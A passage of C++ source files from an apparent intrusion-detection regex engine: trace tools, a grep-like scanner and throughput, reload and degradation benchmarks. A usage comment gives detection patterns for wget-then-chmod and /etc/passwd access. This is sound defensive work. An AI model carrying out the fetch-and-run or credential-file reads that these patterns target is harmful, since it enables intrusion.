              mfa->program().memory_bits, stats.seconds);

  trace::Trace t;
  if (!load_path.empty()) {
    if (!trace::Trace::load(load_path, t)) {
      std::fprintf(stderr, "cannot load trace %s\n", load_path.c_str());
      return 1;
    }
  } else {
    const auto exemplars = eval::attack_exemplars(set, 2, 4242);
    t = trace::make_real_life(trace::RealLifeProfile::kCyberDefense, bytes, 4242,
                              exemplars);
    if (!save_path.empty() && !t.save(save_path))
      std::fprintf(stderr, "warning: could not save trace to %s\n", save_path.c_str());
  }
  std::printf("trace \"%s\": %zu packets, %.2f MB payload\n", t.name().c_str(),
              t.packet_count(), static_cast<double>(t.payload_bytes()) / (1024 * 1024));

  // Inspect: one shared engine, one (q, m) context per flow, alerts
  // aggregated per rule.
  flow::FlowInspector<core::Mfa> inspector{*mfa};
  std::map<std::uint32_t, std::uint64_t> alerts;
  util::CycleTimer timer;
  t.for_each_packet([&](const flow::Packet& p) {
    inspector.packet(p, [&](std::uint32_t id, std::uint64_t) { ++alerts[id]; });
  });
  const double cpb =
      static_cast<double>(timer.elapsed_cycles()) / static_cast<double>(t.payload_bytes());

  std::printf("\ninspected %zu flows at %.1f cycles/byte\n", inspector.flow_count(), cpb);
  std::uint64_t total = 0;
  for (const auto& [id, count] : alerts) total += count;
  std::printf("%llu alerts across %zu distinct rules:\n",
              static_cast<unsigned long long>(total), alerts.size());
  for (const auto& [id, count] : alerts)
    std::printf("  rule %3u  x%-6llu  %s\n", id, static_cast<unsigned long long>(count),
                set.sources[id - 1].c_str());
  if (alerts.empty()) std::printf("  (none — trace was clean)\n");
  return 0;
}
