// Trace tooling: generate, save, and inspect the repo's .mftr packet traces
// (both real-life profiles and Becchi-style synthetic walks).
//
//   $ ./trace_tool gen-real  nitroba 1048576 out.mftr
//   $ ./trace_tool gen-synth S24 0.75 1048576 out.mftr
//   $ ./trace_tool info out.mftr
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <unordered_set>

#include "eval/harness.h"
#include "trace/pcap.h"

namespace {

int usage() {
  std::printf(
      "usage:\n"
      "  trace_tool gen-real  <darpa|cdx|nitroba> <bytes> <out.mftr>\n"
      "  trace_tool gen-synth <pattern-set> <p_M> <bytes> <out.mftr>\n"
      "  trace_tool from-pcap <in.pcap> <out.mftr>\n"
      "  trace_tool info <file.mftr>\n");
  return 2;
}

}  // namespace

int main(int argc, char** argv) {
  using namespace mfa;
  if (argc < 3) return usage();
  const std::string cmd = argv[1];

  if (cmd == "info") {
    trace::Trace t;
    if (!trace::Trace::load(argv[2], t)) {
      std::fprintf(stderr, "cannot load %s\n", argv[2]);
      return 1;
    }
    std::unordered_set<std::size_t> flows;
    std::size_t max_packet = 0;
    t.for_each_packet([&](const flow::Packet& p) {
      flows.insert(flow::FlowKeyHash{}(p.key));
      max_packet = std::max<std::size_t>(max_packet, p.length);
    });
    std::printf("trace \"%s\": %zu packets, %zu flows, %.2f MB payload, "
                "largest packet %zu B\n",
                t.name().c_str(), t.packet_count(), flows.size(),
                static_cast<double>(t.payload_bytes()) / (1024 * 1024), max_packet);
    return 0;
  }

  if (cmd == "from-pcap" && argc == 4) {
    const trace::PcapResult r = trace::read_pcap(argv[2]);
    if (!r.ok) {
      std::fprintf(stderr, "pcap error: %s\n", r.error.c_str());
      return 1;
    }
    std::printf("read %llu frames: %llu payload packets, skipped %llu non-IP, "
                "%llu non-TCP/UDP, %llu empty, %llu truncated\n",
                (unsigned long long)r.stats.frames,
                (unsigned long long)r.stats.payload_packets,
                (unsigned long long)r.stats.skipped_non_ip,
                (unsigned long long)r.stats.skipped_non_l4,
                (unsigned long long)r.stats.skipped_empty,
                (unsigned long long)r.stats.skipped_truncated);
    if (!r.trace.save(argv[3])) {
      std::fprintf(stderr, "cannot save %s\n", argv[3]);
      return 1;
    }
    std::printf("wrote %s: %.2f MB payload\n", argv[3],
                static_cast<double>(r.trace.payload_bytes()) / (1024 * 1024));
    return 0;
  }

  if (cmd == "gen-real" && argc == 5) {
    const std::string profile_name = argv[2];
    trace::RealLifeProfile profile;
    if (profile_name == "darpa") profile = trace::RealLifeProfile::kDarpa;
    else if (profile_name == "cdx") profile = trace::RealLifeProfile::kCyberDefense;
    else if (profile_name == "nitroba") profile = trace::RealLifeProfile::kNitroba;
    else return usage();
    const std::size_t bytes = std::strtoull(argv[3], nullptr, 10);
    const trace::Trace t = trace::make_real_life(profile, bytes, 1, {});
    if (!t.save(argv[4])) {
      std::fprintf(stderr, "cannot save %s\n", argv[4]);
      return 1;
    }
    std::printf("wrote %s: %zu packets, %.2f MB\n", argv[4], t.packet_count(),
                static_cast<double>(t.payload_bytes()) / (1024 * 1024));
    return 0;
  }

  if (cmd == "gen-synth" && argc == 6) {
    const patterns::PatternSet set = patterns::set_by_name(argv[2]);
    const double pm = std::atof(argv[3]);
    const std::size_t bytes = std::strtoull(argv[4], nullptr, 10);
    const auto dfa = dfa::build_dfa(nfa::build_nfa(set.patterns));
    if (!dfa) {
      std::fprintf(stderr, "pattern set %s has no constructable DFA; pick another\n",
                   argv[2]);
      return 1;
    }
    const trace::Trace t = trace::make_synthetic(*dfa, pm, bytes, 1);
    if (!t.save(argv[5])) {
      std::fprintf(stderr, "cannot save %s\n", argv[5]);
      return 1;
    }
    std::printf("wrote %s: p_M=%.2f, %zu packets, %.2f MB\n", argv[5], pm,
                t.packet_count(), static_cast<double>(t.payload_bytes()) / (1024 * 1024));
    return 0;
  }

  return usage();
}
