// mfa_grep: a small grep-like CLI over the MFA engine.
//
// Compile patterns (inline, from a pattern file, or from Snort-style rules),
// optionally persist the compiled automaton, and scan files or stdin,
// printing one line per match.
//
//   $ ./mfa_grep -e '.*wget.*chmod' -e '.*etc/passwd' payload.bin
//   $ ./mfa_grep --rules web.rules --save web.mfac traffic.dump
//   $ cat traffic.dump | ./mfa_grep --load web.mfac
#include <cstdio>
#include <cstring>
#include <fstream>
#include <iostream>
#include <sstream>

#include "mfa/mfa.h"
#include "regex/parser.h"
#include "rules/rules.h"

namespace {

int usage() {
  std::printf(
      "usage: mfa_grep [options] [file...]\n"
      "  -e PATTERN      add a pattern (repeatable; ids are 1,2,...)\n"
      "  --patterns F    read one pattern per line from F ('#' comments)\n"
      "  --rules F       read Snort-style rules from F (ids are sids)\n"
      "  --save F        save the compiled automaton to F\n"
      "  --load F        load a compiled automaton (skips compilation)\n"
      "  --count         print only the total match count per input\n"
      "  -q              exit status only (0 = matched, 1 = no match)\n"
      "with no files, scans stdin.\n");
  return 2;
}

struct Config {
  std::vector<std::string> patterns;
  std::string pattern_file, rules_file, save_path, load_path;
  std::vector<std::string> files;
  bool count_only = false;
  bool quiet = false;
};

bool read_stream(std::istream& in, std::string& out) {
  std::ostringstream buffer;
  buffer << in.rdbuf();
  out = buffer.str();
  return true;
}

}  // namespace

int main(int argc, char** argv) {
  using namespace mfa;
  Config cfg;
  for (int i = 1; i < argc; ++i) {
    const std::string a = argv[i];
    const auto next = [&]() -> const char* {
      return i + 1 < argc ? argv[++i] : nullptr;
    };
    if (a == "-e") {
      const char* v = next();
      if (!v) return usage();
      cfg.patterns.push_back(v);
    } else if (a == "--patterns") {
      const char* v = next();
      if (!v) return usage();
      cfg.pattern_file = v;
    } else if (a == "--rules") {
      const char* v = next();
      if (!v) return usage();
      cfg.rules_file = v;
    } else if (a == "--save") {
      const char* v = next();
      if (!v) return usage();
      cfg.save_path = v;
    } else if (a == "--load") {
      const char* v = next();
      if (!v) return usage();
      cfg.load_path = v;
    } else if (a == "--count") {
      cfg.count_only = true;
    } else if (a == "-q") {
      cfg.quiet = true;
    } else if (a == "--help") {
      return usage();
    } else if (!a.empty() && a[0] == '-') {
      return usage();
    } else {
      cfg.files.push_back(a);
    }
  }

  std::optional<core::Mfa> mfa;
  if (!cfg.load_path.empty()) {
    mfa = core::Mfa::load(cfg.load_path);
    if (!mfa) {
      std::fprintf(stderr, "mfa_grep: cannot load automaton %s\n", cfg.load_path.c_str());
      return 2;
    }
  } else {
    std::vector<nfa::PatternInput> inputs;
    std::uint32_t next_id = 1;
    for (const auto& p : cfg.patterns) {
      regex::ParseResult r = regex::parse(p);
      if (!r.ok()) {
        std::fprintf(stderr, "mfa_grep: bad pattern \"%s\": %s (offset %zu)\n",
                     p.c_str(), r.error->message.c_str(), r.error->offset);
        return 2;
      }
      inputs.push_back({*std::move(r.regex), next_id++});
    }
    if (!cfg.pattern_file.empty()) {
      std::ifstream in(cfg.pattern_file);
      if (!in) {
        std::fprintf(stderr, "mfa_grep: cannot open %s\n", cfg.pattern_file.c_str());
        return 2;
      }
      std::string line;
      std::size_t line_no = 0;
      while (std::getline(in, line)) {
        ++line_no;
        if (line.empty() || line[0] == '#') continue;
        regex::ParseResult r = regex::parse(line);
        if (!r.ok()) {
          std::fprintf(stderr, "mfa_grep: %s:%zu: %s\n", cfg.pattern_file.c_str(),
                       line_no, r.error->message.c_str());
          return 2;
        }
        inputs.push_back({*std::move(r.regex), next_id++});
      }
    }
    if (!cfg.rules_file.empty()) {
      const rules::LoadResult loaded = rules::load_rules_file(cfg.rules_file);
      for (const auto& e : loaded.errors)
        std::fprintf(stderr, "mfa_grep: %s:%zu: %s\n", cfg.rules_file.c_str(), e.line,
                     e.message.c_str());
      for (auto input : rules::to_pattern_inputs(loaded.rules))
        inputs.push_back(std::move(input));
    }
    if (inputs.empty()) {
      std::fprintf(stderr, "mfa_grep: no patterns given\n");
      return usage();
    }
    mfa = core::build_mfa(inputs);
    if (!mfa) {
      std::fprintf(stderr, "mfa_grep: construction failed (state cap exceeded)\n");
      return 2;
    }
    if (!cfg.save_path.empty() && !mfa->save(cfg.save_path))
      std::fprintf(stderr, "mfa_grep: warning: could not save to %s\n",
                   cfg.save_path.c_str());
  }

  std::uint64_t total = 0;
  const auto scan_one = [&](const std::string& name, const std::string& data) {
    core::MfaScanner scanner(*mfa);
    std::uint64_t here = 0;
    scanner.reset();
    CollectingSink sink;
    scanner.feed(reinterpret_cast<const std::uint8_t*>(data.data()), data.size(), 0, sink);
    here = sink.matches.size();
    total += here;
    if (cfg.quiet) return;
    if (cfg.count_only) {
      std::printf("%s: %llu\n", name.c_str(), static_cast<unsigned long long>(here));
      return;
    }
    for (const Match& m : sink.matches)
      std::printf("%s: pattern %u at offset %llu\n", name.c_str(), m.id,
                  static_cast<unsigned long long>(m.end));
  };

  if (cfg.files.empty()) {
    std::string data;
    read_stream(std::cin, data);
    scan_one("(stdin)", data);
  } else {
    for (const auto& path : cfg.files) {
      std::ifstream in(path, std::ios::binary);
      if (!in) {
        std::fprintf(stderr, "mfa_grep: cannot open %s\n", path.c_str());
        continue;
      }
      std::string data;
      read_stream(in, data);
      scan_one(path, data);
    }
  }
  return total > 0 ? 0 : 1;
}
