// Fig. 2: memory image sizes (MB) for NFA / DFA / HFA / MFA per rule set.
// Paper shapes: NFA smallest; MFA near-NFA scale (~30x below HFA on
// average); DFA dominated by the dense 256-wide table (C7p ~ 250 MB).
#include "bench_common.h"

namespace {

struct PaperRow {
  const char* name;
  const char* nfa;
  const char* dfa;
  const char* hfa;
  const char* mfa;
};

constexpr PaperRow kPaper[] = {
    {"B217p", "0.5", "-", "108", "2.6"}, {"C7p", "0.1", "250", "4", "0.05"},
    {"C8", "0.1", "4", "0.8", "0.16"},   {"C10", "0.1", "20", "2", "0.04"},
    {"S24", "0.2", "10", "6", "0.37"},   {"S31p", "0.4", "41", "16", "0.77"},
    {"S34", "0.3", "13", "9", "0.73"},
};

}  // namespace

int main(int argc, char** argv) {
  using namespace mfa;
  const bench::Args args = bench::Args::parse(argc, argv);

  std::printf("Fig. 2: memory image sizes in MB (measured | paper)\n\n");
  util::TextTable table({"Set", "NFA", "DFA", "HFA", "MFA", "paper:NFA", "paper:DFA",
                         "paper:HFA", "paper:MFA"});

  double hfa_over_mfa_sum = 0;
  int hfa_over_mfa_n = 0;
  const auto sets = patterns::builtin_sets();
  for (std::size_t i = 0; i < sets.size(); ++i) {
    const auto& set = sets[i];
    std::fprintf(stderr, "[fig2] building %s ...\n", set.name.c_str());
    const eval::Suite suite = eval::build_suite(set, bench::suite_options(args));
    table.add_row(
        {set.name, util::format_bytes_mb(suite.nfa_build.image_bytes, 3),
         bench::cell_or_dash(suite.dfa_build.ok,
                             util::format_bytes_mb(suite.dfa_build.image_bytes, 2)),
         bench::cell_or_dash(suite.hfa_build.ok,
                             util::format_bytes_mb(suite.hfa_build.image_bytes, 2)),
         bench::cell_or_dash(suite.mfa_build.ok,
                             util::format_bytes_mb(suite.mfa_build.image_bytes, 3)),
         kPaper[i].nfa, kPaper[i].dfa, kPaper[i].hfa, kPaper[i].mfa});
    if (suite.hfa_build.ok && suite.mfa_build.ok && suite.mfa_build.image_bytes > 0) {
      hfa_over_mfa_sum += static_cast<double>(suite.hfa_build.image_bytes) /
                          static_cast<double>(suite.mfa_build.image_bytes);
      ++hfa_over_mfa_n;
    }
  }
  bench::print_table(table, args.csv);
  if (hfa_over_mfa_n > 0)
    std::printf("Average HFA/MFA image ratio: %.1fx (paper reports ~30x)\n",
                hfa_over_mfa_sum / hfa_over_mfa_n);
  return 0;
}
