// Hot-reload cost: cycles-per-byte windows around a live ruleset swap
// (DESIGN.md Sec. 10). A ShardedInspector keeps scanning one trace while a
// reload::HotSwapper rebuilds the ruleset on a background thread and
// publishes it via swap_ruleset(); the bench measures whether traffic on
// the packet path pays for the swap.
//
// Three window kinds, each submitting (and fully draining) the same trace:
//   pre-swap     steady state on the constructor engine (generation 0)
//   during-swap  swap_async() in flight while the window's packets scan
//   post-swap    the new generation adopted by every shard
// `--cycles N` repeats the during/post pair N times, alternating the C8
// and C10 rulesets so every swap really recompiles. Windows drain through
// a live-telemetry barrier (batch_size 1, processed == submitted) so CpB
// covers scan work, not just producer hand-off; compare windows against
// each other, not against bench_pipeline's batched numbers.
//
// --smoke shrinks the run for per-push CI; --json FILE writes the
// mfa.bench.v1 schema with one row per window plus a final telemetry
// snapshot (ruleset_generation, swap count, prepare-latency histogram).
#include "bench_common.h"

#include "pipeline/reload.h"

int main(int argc, char** argv) {
  using namespace mfa;
  const bench::Args args = bench::Args::parse(argc, argv);
  const int swap_cycles = args.smoke ? 1 : 3;
  const std::size_t shards = 2;

  const patterns::PatternSet base_set = patterns::set_by_name("C8");
  const patterns::PatternSet alt_set = patterns::set_by_name("C10");
  auto engine = core::build_mfa(base_set.patterns);
  if (!engine) {
    std::fprintf(stderr, "C8: MFA construction failed\n");
    return 1;
  }
  // Attack content from BOTH rulesets, interleaved because the generator
  // splices exemplars round-robin from the front of the list — matches stay
  // observable on whichever generation a window's flows adopt.
  const auto base_ex = eval::attack_exemplars(base_set, 2, 909);
  const auto alt_ex = eval::attack_exemplars(alt_set, 2, 909);
  std::vector<std::string> exemplars;
  for (std::size_t i = 0; i < std::max(base_ex.size(), alt_ex.size()); ++i) {
    if (i < base_ex.size()) exemplars.push_back(base_ex[i]);
    if (i < alt_ex.size()) exemplars.push_back(alt_ex[i]);
  }
  const trace::Trace t = trace::make_real_life(trace::RealLifeProfile::kCyberDefense,
                                               args.trace_bytes, 909, exemplars);
  std::printf("trace %.2f MB, %zu packets, %zu shards, %d swap cycle(s)\n\n",
              static_cast<double>(t.payload_bytes()) / (1024 * 1024),
              t.packet_count(), shards, swap_cycles);

  obs::MetricsRegistry metrics(
      {.shards = shards, .match_id_capacity = 4096, .trace_capacity = 1024});
  pipeline::Options opt;
  opt.shards = shards;
  opt.batch_size = 1;  // live processed-counter barrier between windows
  opt.metrics = &metrics;
  opt.swap_policy = flow::SwapPolicy::kDrainOld;
  pipeline::ShardedInspector<core::Mfa> pipe(*engine, opt);
  pipeline::reload::RulesetRegistry<core::Mfa> registry;
  pipeline::reload::HotSwapper<core::Mfa> swapper(registry, pipe, &metrics);

  // Each swap recompiles a pattern set from source on the swapper's thread —
  // the "rules changed under a live sensor" cost, kept off the packet path.
  const auto rebuild = [](const patterns::PatternSet& set)
      -> pipeline::reload::SourceResult<core::Mfa> {
    auto built = core::build_mfa(set.patterns);
    if (!built) return {std::nullopt, set.name + ": MFA construction failed"};
    return {std::move(built), ""};
  };

  obs::BenchReport report("reload");
  util::TextTable table({"window", "CpB", "matches", "swap in flight at end"});
  std::uint64_t drained = 0, prev_matches = 0;
  const auto processed = [&] {
    std::uint64_t n = 0;
    for (const auto& s : metrics.snapshot().shards) n += s.packets;
    return n;
  };
  // Submit the whole trace and wait until every packet of it is scanned, so
  // each window's cycle count covers the same bytes end to end. The flow
  // keys are remapped per window (fresh src_ip space): replaying identical
  // keys+seqs would read as pure retransmission and scan nothing, and fresh
  // flows are what pick up the newly adopted generation under kDrainOld.
  std::uint32_t window_index = 0;
  const auto run_window = [&](const std::string& label) {
    const std::uint32_t ip_shift = (window_index++) << 16;
    const std::uint64_t start = util::rdtsc_now();
    t.for_each_packet([&](const flow::Packet& p) {
      flow::Packet remapped = p;
      remapped.key.src_ip += ip_shift;
      pipe.submit(remapped);
    });
    drained += t.packet_count();
    while (processed() < drained) std::this_thread::yield();
    const std::uint64_t cycles = util::rdtsc_now() - start;
    const double cpb = static_cast<double>(cycles) /
                       static_cast<double>(t.payload_bytes());
    const std::uint64_t matches = metrics.snapshot().totals().matches;
    const std::uint64_t window_matches = matches - prev_matches;
    prev_matches = matches;
    table.add_row({label, util::format_double(cpb, 1),
                   std::to_string(window_matches),
                   swapper.busy() ? "yes" : "no"});
    report.add(base_set.name, label, core::Mfa::kEngineName, cpb, window_matches,
               shards);
  };

  pipe.start();
  run_window("pre-swap");
  for (int cycle = 0; cycle < swap_cycles; ++cycle) {
    const patterns::PatternSet& next = (cycle % 2 == 0) ? alt_set : base_set;
    if (!swapper.swap_async([&rebuild, &next] { return rebuild(next); },
                            "rebuild " + next.name))
      std::fprintf(stderr, "swap %d refused: previous swap still in flight\n", cycle);
    run_window("during-swap");
    swapper.join();
    const auto swap_report = swapper.last_report();
    if (!swap_report || !*swap_report) {
      std::fprintf(stderr, "swap %d failed: %s\n", cycle,
                   swap_report ? swap_report->error.c_str() : "no report");
      pipe.finish();
      return 1;
    }
    while (pipe.adopted_generation() < swap_report->generation)
      std::this_thread::yield();
    run_window("post-swap");
    std::printf("swap %d: generation %llu (%s) prepared in %.3fs\n", cycle,
                static_cast<unsigned long long>(swap_report->generation),
                swap_report->origin.c_str(), swap_report->prepare_seconds);
  }
  pipe.finish();
  std::printf("\n");
  bench::print_table(table, args.csv);

  const auto totals = pipe.totals();
  std::printf("accounting: submitted %llu == scanned %llu + shed %llu\n",
              static_cast<unsigned long long>(totals.submitted),
              static_cast<unsigned long long>(totals.packets),
              static_cast<unsigned long long>(totals.shed_total()));
  std::printf("matches by generation:");
  for (const auto& [gen, n] : totals.matches_by_generation)
    std::printf(" g%llu=%llu", static_cast<unsigned long long>(gen),
                static_cast<unsigned long long>(n));
  std::printf("\nReading: during-swap CpB should track pre-swap CpB — the\n"
              "compile runs on the swapper's thread, so scanning never waits\n"
              "on it. post-swap shows the new generation's cost (C10 is a\n"
              "larger set than C8). kDrainOld keeps pre-swap flows on their\n"
              "original generation, hence matches land in every generation\n"
              "that was live while their flow existed.\n");
  if (!args.json_path.empty()) report.set_telemetry(metrics.snapshot());
  bench::write_report(args, report);
  return 0;
}
