// Graceful-degradation ladder: fidelity and cost of each rung, and the
// closed-loop controller under an offered-load sweep (DESIGN.md Sec. 14).
//
// Part 1 pins the ladder (Options::degrade.force_level) and measures every
// rung on the same trace: CpB and recall (matches / sequential matches) for
//   L0 full scan, L1 sampled (1-in-2^3 flows exact + prefilter-gated rest),
//   L2 prefilter-only detection (hits counted, nothing scanned),
//   L3 count-and-bypass.
// These rows land in the mfa.bench.v1 report, so bench_compare gates the
// cost of every rung against BENCH_baseline.json.
//
// Part 2 enables the controller (Options::slo) and paces the producer at
// 0.5x / 1x / 2x / 4x of the measured L0 capacity, reporting the e2e p99,
// shed ratio, ladder level reached and transition count per offered load.
// The expectation that CI cannot easily gate numerically but this table
// makes visible: below capacity the ladder stays at L0; past capacity the
// controller steps down until the shard keeps up, and the p99 stays bounded
// instead of growing with the backlog.
//
// --smoke shrinks the run for per-push CI; --json FILE writes mfa.bench.v1
// with telemetry from an instrumented L0 pass (scan-latency p99 gate).
#include "bench_common.h"

#include "pipeline/degrade.h"

namespace {

struct LevelRun {
  double cycles_per_byte = 0.0;
  std::uint64_t matches = 0;
  std::uint64_t degraded_hits = 0;
  std::uint64_t shed_bypass = 0;
  double wall_seconds = 0.0;
};

LevelRun run_pinned(const mfa::core::Mfa& engine, const mfa::trace::Trace& t,
                    int level, int reps, mfa::obs::MetricsRegistry* metrics) {
  using namespace mfa;
  LevelRun out;
  std::uint64_t cycles = 0;
  double seconds = 0.0;
  int timed = 0;
  for (int rep = 0; rep < reps + 1; ++rep) {
    pipeline::Options opt;
    opt.shards = 1;
    opt.degrade.force_level = level;
    opt.metrics = metrics;
    pipeline::ShardedInspector<core::Mfa> pipe(engine, opt);
    pipe.start();
    const auto t0 = std::chrono::steady_clock::now();
    const std::uint64_t c0 = util::rdtsc_now();
    t.for_each_packet([&](const flow::Packet& p) { pipe.submit(p); });
    pipe.finish();
    const std::uint64_t elapsed = util::rdtsc_now() - c0;
    const double secs =
        std::chrono::duration<double>(std::chrono::steady_clock::now() - t0)
            .count();
    if (rep > 0) {  // first rep warms caches and the flow table allocator
      cycles += elapsed;
      seconds += secs;
      ++timed;
    }
    const pipeline::ShardStats total = pipe.totals();
    out.matches = total.matches;
    out.degraded_hits = total.degraded_hits;
    out.shed_bypass = total.shed_bypass;
  }
  if (t.payload_bytes() > 0 && timed > 0) {
    out.cycles_per_byte =
        static_cast<double>(cycles) /
        (static_cast<double>(timed) * static_cast<double>(t.payload_bytes()));
    out.wall_seconds = seconds / timed;
  }
  return out;
}

/// Big-packet trace for the offered-load sweep: 16 flows of 16 KiB packets.
/// Two properties matter more than realism here:
///  - Large payloads make the scan (not the producer's pacing loop) the
///    dominant per-packet cost, so a paced producer can genuinely exceed
///    worker capacity even when both share one core — with small real-life
///    packets the producer itself becomes the bottleneck first.
///  - Exemplar prefixes stamped every 48 bytes keep every chunk
///    prefilter-positive, so L0 pays the full automaton scan (a clean
///    random filler would be prefilter-skipped and cost next to nothing,
///    leaving the controller no lever to measure). Prefixes stop one byte
///    short of the full exemplar so match storms stay rare.
mfa::trace::Trace make_sweep_trace(std::size_t bytes,
                                   const std::vector<std::string>& exemplars) {
  using namespace mfa;
  trace::Trace t("degrade-sweep");
  constexpr std::size_t kPacket = 16384;
  constexpr std::uint32_t kFlows = 16;
  std::vector<std::uint8_t> buf(kPacket);
  std::vector<std::uint64_t> offsets(kFlows, 0);
  std::uint64_t rng = 0x9e3779b97f4a7c15ull;
  std::uint32_t i = 0;
  for (std::size_t made = 0; made < bytes; made += kPacket, ++i) {
    for (auto& b : buf) {
      rng = rng * 6364136223846793005ull + 1442695040888963407ull;
      b = static_cast<std::uint8_t>('a' + ((rng >> 33) % 26));
    }
    for (std::size_t pos = 0; !exemplars.empty() && pos + 64 < kPacket;
         pos += 48) {
      const std::string& ex = exemplars[(i + pos / 48) % exemplars.size()];
      const std::size_t n = ex.size() > 1 ? ex.size() - 1 : ex.size();
      std::memcpy(buf.data() + pos, ex.data(), n);
    }
    if (!exemplars.empty() && i % 37 == 0) {
      const std::string& ex = exemplars[i % exemplars.size()];
      if (ex.size() < kPacket)
        std::memcpy(buf.data() + (i * 97) % (kPacket - ex.size()), ex.data(),
                    ex.size());
    }
    const std::uint32_t f = i % kFlows;
    t.add_packet(flow::FlowKey{f, 1, 2, 3, 6}, offsets[f], buf.data(), kPacket);
    offsets[f] += kPacket;
  }
  return t;
}

struct SweepRow {
  double ratio = 0.0;
  double offered_mbps = 0.0;
  double realized_mbps = 0.0;  ///< what the producer actually submitted
  std::uint64_t p99_ns = 0;
  double shed_ratio = 0.0;
  std::uint64_t level = 0;
  std::uint64_t transitions = 0;
};

/// Pace the trace at `ratio` x the measured capacity for at least
/// `min_seconds`, controller enabled, and report where the ladder settled.
SweepRow run_paced(const mfa::core::Mfa& engine, const mfa::trace::Trace& t,
                   double ratio, double capacity_bytes_per_sec,
                   double ns_per_packet, double min_seconds) {
  using namespace mfa;
  SweepRow row;
  row.ratio = ratio;
  const double rate = ratio * capacity_bytes_per_sec;
  row.offered_mbps = rate / (1024.0 * 1024.0);

  obs::MetricsRegistry metrics(1);
  pipeline::Options opt;
  opt.shards = 1;
  opt.queue_capacity = 256;
  opt.batch_size = 16;
  opt.metrics = &metrics;
  opt.trace_sample_shift = 4;  // 1-in-16 packets carry an e2e latency span
  opt.shed_policy = pipeline::ShedPolicy::kDropNewest;
  opt.shed_high_water = 192;
  opt.shed_low_water = 64;
  // SLO: the queueing the controller tolerates before stepping down — about
  // a quarter of the queue full of average-cost packets.
  opt.slo.p99_ns = static_cast<std::uint64_t>(ns_per_packet * 64.0) + 1;
  opt.degrade.dwell_ms = 10;
  pipeline::ShardedInspector<core::Mfa> pipe(engine, opt);
  pipe.start();

  const auto start = std::chrono::steady_clock::now();
  auto next = start;
  std::uint64_t submitted_bytes = 0;
  // The trace loops for the whole run, re-keyed to FRESH flows every pass
  // (flow churn, as with_flow_count does). Two failure modes this avoids:
  // resubmitting the same flows+seqs would make passes 2..N retransmissions
  // the inspector discards for free, and eternal flows would wedge after
  // their first admission shed (the hole never fills, so every later byte
  // parks in reassembly until dropped) — either way the worker ends up
  // scanning nothing and the overload disappears.
  std::uint32_t pass = 0;
  const auto deadline = start + std::chrono::duration_cast<
      std::chrono::steady_clock::duration>(std::chrono::duration<double>(min_seconds));
  while (std::chrono::steady_clock::now() < deadline) {
    t.for_each_packet([&](const flow::Packet& p0) {
      flow::Packet p = p0;
      p.key.dst_ip += pass;
      // Burst pacing: each packet owes length/rate seconds of budget, but
      // the producer only sleeps once it is a full millisecond ahead of
      // schedule, so ~50us of per-sleep timer slack amortizes to noise
      // instead of capping the realized rate. sleep_for (not a busy-wait)
      // also yields the core to the shard worker — essential on single-core
      // hosts, where a spinning producer would starve the very worker it is
      // load-testing.
      next += std::chrono::duration_cast<std::chrono::steady_clock::duration>(
          std::chrono::duration<double>(static_cast<double>(p.length) / rate));
      const auto now = std::chrono::steady_clock::now();
      if (next - now > std::chrono::milliseconds(1))
        std::this_thread::sleep_for(next - now);
      submitted_bytes += p.length;
      pipe.submit(p);
    });
    ++pass;
  }
  // Read the settled level BEFORE finish(): the drain empties the queue, so
  // the controller legitimately walks back toward L0 during shutdown.
  obs::ShardSnapshot live;
  for (const auto& s : metrics.snapshot().shards) live += s;
  row.level = live.degrade_level;
  pipe.finish();

  const pipeline::ShardStats total = pipe.totals();
  const double elapsed = std::chrono::duration<double>(
                             std::chrono::steady_clock::now() - start)
                             .count();
  obs::ShardSnapshot merged;
  for (const auto& s : metrics.snapshot().shards) merged += s;
  row.realized_mbps =
      elapsed > 0.0
          ? static_cast<double>(submitted_bytes) / elapsed / (1024.0 * 1024.0)
          : 0.0;
  row.p99_ns = merged.e2e_ns.quantile(0.99);
  row.transitions = total.degrade_transitions;
  row.shed_ratio = total.submitted > 0
                       ? static_cast<double>(total.shed_total()) /
                             static_cast<double>(total.submitted)
                       : 0.0;
  return row;
}

}  // namespace

int main(int argc, char** argv) {
  using namespace mfa;
  const bench::Args args = bench::Args::parse(argc, argv);

  const patterns::PatternSet set = patterns::set_by_name("C8");
  const auto engine = core::build_mfa(set.patterns);
  if (!engine) {
    std::fprintf(stderr, "C8: MFA construction failed\n");
    return 1;
  }
  const auto exemplars = eval::attack_exemplars(set, 2, 808);
  const trace::Trace t = trace::make_real_life(
      trace::RealLifeProfile::kCyberDefense, args.trace_bytes, 808, exemplars);

  obs::BenchReport report("degrade");
  const eval::Throughput seq = eval::measure_throughput(*engine, t, args.reps);
  report.add(set.name, "cyberdefense", core::Mfa::kEngineName,
             seq.cycles_per_byte, seq.matches, /*shards=*/0);
  std::printf("=== C8, trace %.2f MB, sequential %.1f CpB, %llu matches ===\n\n",
              static_cast<double>(t.payload_bytes()) / (1024 * 1024),
              seq.cycles_per_byte,
              static_cast<unsigned long long>(seq.matches));

  // --- Part 1: every rung pinned, fidelity vs cost -----------------------
  util::TextTable ladder({"level", "CpB", "recall", "matches", "degraded hits",
                          "bypass shed"});
  double l0_wall_seconds = 0.0;
  for (int level = 0; level <= 3; ++level) {
    const LevelRun r = run_pinned(*engine, t, level, args.reps, nullptr);
    if (level == 0) l0_wall_seconds = r.wall_seconds;
    const double recall =
        seq.matches > 0
            ? static_cast<double>(r.matches) / static_cast<double>(seq.matches)
            : 1.0;
    ladder.add_row({pipeline::to_string(static_cast<pipeline::DegradeLevel>(level)),
                    util::format_double(r.cycles_per_byte, 1),
                    util::format_double(recall, 3), std::to_string(r.matches),
                    std::to_string(r.degraded_hits),
                    std::to_string(r.shed_bypass)});
    report.add(set.name,
               std::string("degrade-L") + std::to_string(level),
               core::Mfa::kEngineName, r.cycles_per_byte, r.matches,
               /*shards=*/1);
  }
  bench::print_table(ladder, args.csv);

  // --- Part 2: closed loop under an offered-load sweep -------------------
  const trace::Trace sweep_trace = make_sweep_trace(args.trace_bytes, exemplars);
  // Capacity must be the WORKER's scan rate, not the whole pipeline's: on a
  // single-core host a flat-out producer and the worker serialize, and that
  // wall time would understate what the worker alone can drain — making
  // "2x capacity" accidentally reachable. And it must use the worker's
  // batched delivery path (packet_batch_attributed -> K-way interleaved
  // feed_many), which is substantially faster than packet-at-a-time.
  double cal_seconds = 0.0;
  for (int rep = 0; rep < 2; ++rep) {  // first pass warms the flow table
    flow::TieredFlowInspector<core::Mfa> cal_insp{*engine};
    std::vector<flow::Packet> burst;
    burst.reserve(16);
    const auto feed = [&]() {
      cal_insp.packet_batch_attributed(
          burst.data(), burst.size(),
